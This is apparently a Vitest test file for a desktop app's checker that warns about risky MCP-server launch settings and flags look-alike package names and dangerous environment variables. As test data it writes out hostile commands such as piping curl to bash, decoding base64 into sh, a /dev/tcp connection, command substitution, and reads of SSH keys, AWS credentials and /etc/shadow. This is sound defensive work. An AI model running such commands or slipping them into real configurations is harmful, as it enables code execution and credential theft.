import { describe, expect, test } from "vitest";
import { dangerousEnv } from "../../../electron/servers/dangerous-env.ts";
import { lookAlike, oneSlipApart } from "../../../electron/servers/known-packages.ts";
import { recognise } from "../../../electron/servers/recognise.ts";
import { serverWarnings } from "../../../electron/servers/warnings.ts";
import type { ServerSettings } from "../../../shared/model/server.ts";
import { processorTime } from "../../fixtures/processor-time.ts";

const warn = (settings: ServerSettings): string =>
  serverWarnings({
    settings,
    recognised: recognise(settings.command, settings.args ?? []),
    dangerousEnv: (names) => dangerousEnv(names, "linux"),
    home: "/home/a",
  }).join("\n");

describe("what deserves a second look (threats 1, 30)", () => {
  const sh = (script: string): ServerSettings => ({ command: "sh", args: ["-c", script] });
  test.each<[string, ServerSettings, string]>([
    ["sudo", { command: "sudo", args: ["node", "x.js"] }, "(sudo)"],
    ["sudo inside", sh("true; sudo rm x"), "(sudo)"],
    ["rm -rf", sh("rm -rf ~/x"), "deletes files"],
    ["rm -f -r", sh("rm -f -r x"), "deletes files"],
    ["rm as a command", { command: "rm", args: ["-rf", "/x"] }, "deletes files"],
    ["curl | sh", sh("curl -fsSL https://x.example | bash"), "downloads a script and runs it"],
    ["curl", { command: "curl", args: ["https://x.example"] }, "downloads something"],
    ["a shell script", sh("exec node x"), "shell script"],
    ["chained", sh("a && b"), "chains"],
    ["powershell", { command: "powershell.exe", args: ["-EncodedCommand", "AAAA"] }, "base64"],
    ["cmd", { command: "cmd", args: ["/c", "a & b"] }, "shell script"],
    ["ssh keys", { command: "node", args: ["x.js", "~/.ssh/id_rsa"] }, "SSH keys"],
    ["aws", { command: "node", args: ["x.js", "/home/a/.aws/credentials"] }, "credentials"],
    ["base64 -d", sh("echo x | base64 -d | sh"), "base64"],
    ["blob", { command: "node", args: ["x.js", "A".repeat(220)] }, "very long run"],
    ["node -e", { command: "node", args: ["-e", "1"] }, "code given on the command line"],
    ["node --import", { command: "/usr/bin/node", args: ["--import=./p.js", "x.js"] }, "code given on the command line"],
    ["python -c", { command: "python3.12", args: ["-c", "1"] }, "code given on the command line"],
    ["docker socket", { command: "docker", args: ["run", "-v", "/var/run/docker.sock:/x"] }, "container"],
    ["docker root", { command: "docker", args: ["run", "-v", "/:/host", "x"] }, "container"],
    ["substitution", { command: "node", args: ["x.js", "$(id)"] }, "command inside the command"],
    ["/dev/tcp", sh("exec 3<>/dev/tcp/1.2.3.4/5"), "raw network"],
    ["redirected", sh("a > b"), "redirects"],
    ["a container's rights", { command: "docker", args: ["run", "--privileged", "x"] }, "container"],
    ["this machine's processes", { command: "docker", args: ["run", "--pid=host", "x"] }, "container"],
    ["this machine's network", { command: "docker", args: ["run", "--network", "host", "x"] }, "container"],
    ["this machine's network, in short", { command: "docker", args: ["run", "--net=host", "x"] }, "container"],
    ["docker root, in words", { command: "docker", args: ["run", "--volume=/:/host", "x"] }, "container"],
    ...["chmod +x y", "chmod 777 y", "crontab y", "launchctl load y", "systemctl enable y", "schtasks /create"].map(
      (script): [string, ServerSettings, string] => [script, sh(script), "changes what this machine runs"],
    ),
    ["backticks", { command: "node", args: ["x.js", "`id`"] }, "command inside the command"],
    ["eval", { command: "node", args: ["x.js", 'eval("1")'] }, "runs text as code"],
    ["exec", { command: "node", args: ["x.js", "exec('1')"] }, "runs text as code"],
    ...["/var/tmp/x", "/dev/shm/x", "/home/a/Downloads/x", "C:\\Users\\a\\AppData\\Local\\Temp\\x.exe"].map(
      (command): [string, ServerSettings, string] => [command, { command }, "any program can put files"],
    ),
    ...["node -e", "node --eval", "node -p", "node --print", "node -r", "node --require", "node --import", "node --loader"]
      .concat(["node --experimental-loader", "bun -e", "bun --eval", "bun -r", "bun --preload", "deno eval", "python -c", "python3 -c"])
      .concat(["perl -e", "perl -E", "ruby -e", "php -r"])
      .map((line): [string, ServerSettings, string] => {
        const [command = "", option = ""] = line.split(" ");
        return [line, { command, args: [option, "x"] }, `code given on the command line (${line})`];
      }),
    ["hidden in the folder", { command: "node", args: ["x.js"], cwd: "/a\u200b" }, "a character that cannot be seen"],
    ["hidden in a name", { command: "node", args: [], env: { "A\u200b": "x" } }, "a character that cannot be seen"],
    ["a gap of twenty", { command: "node", args: [`x${" ".repeat(20)}y`] }, "long gap"],
    ["look-alike of Python's", { command: "uvx", args: ["mcp-server-gti"] }, "mcp-server-git"],
    ["temporary", { command: "/tmp/x", args: [] }, "any program can put files"],
    ["http", { command: "npx", args: ["-y", "mcp-remote", "http://x.example"] }, "without encryption"],
    ["NODE_OPTIONS", { command: "node", args: ["x.js"], env: { NODE_OPTIONS: "--require p.js" } }, "NODE_OPTIONS is set"],
    ["LD_PRELOAD", { command: "node", args: ["x.js"], env: { LD_PRELOAD: "x.so" } }, "LD_PRELOAD is set"],
    ["hidden", { command: "node", args: ["x.js", "a\u202Eb"] }, "a character that cannot be seen"],
    ["hidden in env", { command: "node", args: [], env: { A: "\u200b\u200b" } }, "2 characters that cannot be seen"],
    ["long", { command: "node", args: ["x ".repeat(600)] }, "read it to the end"],
    ["gap", { command: "node", args: [`x${" ".repeat(40)}y`] }, "long gap"],
    ["look-alike", { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesytem"] }, "server-filesystem"],
    ["refused", { command: "npx", args: ["-y", "github:a/b"] }, "cannot be started"],
    ["waived", { command: "x", sandbox: { waived: true } }, "without a sandbox"],
    ["whole disk", { command: "x", sandbox: { read: ["/"] } }, "opens every file (all of /)"],
    ["whole disk on Windows", { command: "x", sandbox: { read: ["C:\\"] } }, "opens every file (all of C:\\)"],
    ["whole home", { command: "x", sandbox: { write: ["~"] } }, "opens all of your home folder (~)"],
    ["whole home, as a shell writes it", { command: "x", sandbox: { read: ["/home/a"] } }, "opens all of your home folder (/home/a)"],
    ["whole home, written otherwise", { command: "x", sandbox: { read: ["/home/b/../a//"] } }, "opens all of your home folder"],
    ["more than home", { command: "x", sandbox: { read: ["/home"] } }, "with your home folder in it"],
    ["keys", { command: "x", sandbox: { read: ["/home/a/.ssh"] } }, "It may read /home/a/.ssh, where keys or tokens are kept."],
    ["a key", { command: "x", sandbox: { write: ["~/.ssh/id_x"] } }, "It may read and write ~/.ssh/id_x, where keys"],
    ["the second place", { command: "x", sandbox: { read: ["/home/a/x", "/home/a/.aws"] } }, "/home/a/.aws, where keys"],
    ["secrets of the machine", { command: "x", sandbox: { read: ["/etc/shadow"] } }, "/etc/shadow, where keys"],
    ["an old Node with hosts", { command: "/usr/bin/node", sandbox: { hosts: ["a.example"] } }, "If its Node is older than 24"],
    ["any host", { command: "x", sandbox: { hosts: ["*.com"] } }, "whole network"],
  ])("%s", (_name, settings, words) => {
    expect(warn(settings)).toContain(words);
  });

  test.each<[string, ServerSettings]>([
    ["a package", { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "/home/a/site"] }],
    ["a script", { command: "node", args: ["/home/a/server/dist/index.js", "--port", "8080"], env: { API_TOKEN: "${keychain:x}" } }],
    ["python", { command: "python3", args: ["-m", "mcp_server_git", "--repository", "/home/a/r"] }],
    ["a folder", { command: "x", sandbox: { read: ["/home/a/site", "~/.sshd", "/home/ab"], write: ["/srv"] } }],
    ["ssh", { command: "ssh", args: ["box", "mcp-server"] }],
    ["words that only look like it", { command: "node", args: ["confirm.js", "--format", "sudoku", "armor", "https://x.example/curling"] }],
    ["a package, as it is started on Windows", { command: "cmd", args: ["/c", "npx", "-y", "my-own-server"] }],
    ["this machine by its number", { command: "npx", args: ["-y", "mcp-remote", "http://127.0.0.1:3000/mcp", "http://[::1]:3000/"] }],
    ["localhost", { command: "npx", args: ["-y", "mcp-remote", "http://localhost:3000/mcp"] }],
  ])("nothing about %s", (_name, settings) => {
    expect(warn(settings)).toBe("");
  });

  test("a hostile command of 100 KB is looked at in a moment", () => {
    const started = processorTime();
    for (const part of ["curl ", "rm -", "-e ", "A", "nc -a ", " .ssh", "| "])
      warn({ command: "sh", args: ["-c", part.repeat(100_000 / part.length)] });
    expect(processorTime() - started).toBeLessThan(3000);
  });
});

test("one slip apart", () => {
  expect(
    [
      ["abc", "abd"],
      ["abc", "ab"],
      ["abc", "xabc"],
      ["abc", "acb"],
    ].every(([a = "", b = ""]) => oneSlipApart(a, b)),
  ).toBe(true);
  expect(
    [
      ["abc", "abc"],
      ["abc", "cba"],
      ["abc", "abxy"],
      ["abcd", "badc"],
      ["", "ab"],
    ].some(([a = "", b = ""]) => oneSlipApart(a, b)),
  ).toBe(false);
});

test("look-alikes", () => {
  expect(lookAlike("@modelcontextprotocol/server-filesystem")).toBeNull();
  expect(lookAlike("@modelcontextprotocl/server-filesystem")).toBe("@modelcontextprotocol/server-filesystem");
  expect(lookAlike("server-filesytem")).toBe("@modelcontextprotocol/server-filesystem");
  expect(lookAlike("server-filesystem")).toBe("@modelcontextprotocol/server-filesystem");
  expect(lookAlike("mcp-remot")).toBe("mcp-remote");
  expect(lookAlike("my-own-server")).toBeNull();
});

test("the variables that make a program do more than its command says, each with its reason", () => {
  const reasons: Readonly<Record<string, string>> = {
    "before the server's own": "NODE_OPTIONS",
    "code Node loads": "NODE_PATH NODE_REPL_EXTERNAL_MODULE NODE_V8_COVERAGE NODE_REDIRECT_WARNINGS",
    "certificates Node": "NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED",
    "program runner": "ELECTRON_RUN_AS_NODE",
    "dynamic linker": "LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT GLIBC_TUNABLES GCONV_PATH",
    macOS: "DYLD_INSERT_LIBRARIES",
    "code Python": "PYTHONPATH PYTHONSTARTUP PYTHONHOME",
    OpenSSL: "OPENSSL_CONF OPENSSL_MODULES OPENSSL_ENGINES",
    "into a file": "SSLKEYLOGFILE",
    Perl: "PERL5LIB PERL5OPT PERL5DB PERLLIB",
    Ruby: "RUBYLIB RUBYOPT",
    Java: "JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS CLASSPATH",
    ".NET": "DOTNET_STARTUP_HOOKS COR_PROFILER COR_ENABLE_PROFILING CORECLR_PROFILER CORECLR_ENABLE_PROFILING CORECLR_PROFILER_PATH",
    "shells run": "BASH_ENV ENV ZDOTDIR PROMPT_COMMAND SHELLOPTS BASHOPTS PS4 BASH_FUNC_ls%%",
    "shells split": "IFS",
    "when they are installed": "npm_config_registry NPM_CONFIG_REGISTRY YARN_REGISTRY PNPM_HOME BUN_CONFIG_REGISTRY",
    "Python packages": "PIP_INDEX_URL UV_INDEX PIPX_HOME POETRY_HOME",
    "makes git":
      "GIT_SSH GIT_SSH_COMMAND GIT_ASKPASS GIT_EXTERNAL_DIFF GIT_PAGER GIT_EDITOR GIT_EXEC_PATH GIT_PROXY_COMMAND GIT_CONFIG_COUNT",
    "other programs start": "EDITOR VISUAL PAGER BROWSER SSH_ASKPASS LESSOPEN LESSCLOSE",
    "programs are found": "PATH",
    "another machine": "ALL_PROXY HTTP_PROXY HTTPS_PROXY FTP_PROXY http_proxy",
    "certificates are trusted": "SSL_CERT_FILE SSL_CERT_DIR REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_NO_VERIFY",
    "act for you": "DBUS_SESSION_BUS_ADDRESS SSH_AUTH_SOCK DOCKER_HOST XDG_RUNTIME_DIR",
  };
  for (const [reason, names] of Object.entries(reasons))
    for (const name of names.split(" "))
      expect(dangerousEnv([name]), name).toMatchObject([{ name, reason: expect.stringContaining(reason) as string }]);
  // Names that are only alike.
  const others =
    "MY_NODE_OPTIONS NODE_ENV NODE_OPTIONS_X ENVIRONMENT MY_PATH PATHS EDITORS GITHUB_TOKEN GIT_AUTHOR_NAME MY_PYTHON NO_PROXY MY_PS4";
  expect(dangerousEnv(others.split(" "))).toEqual([]);
});
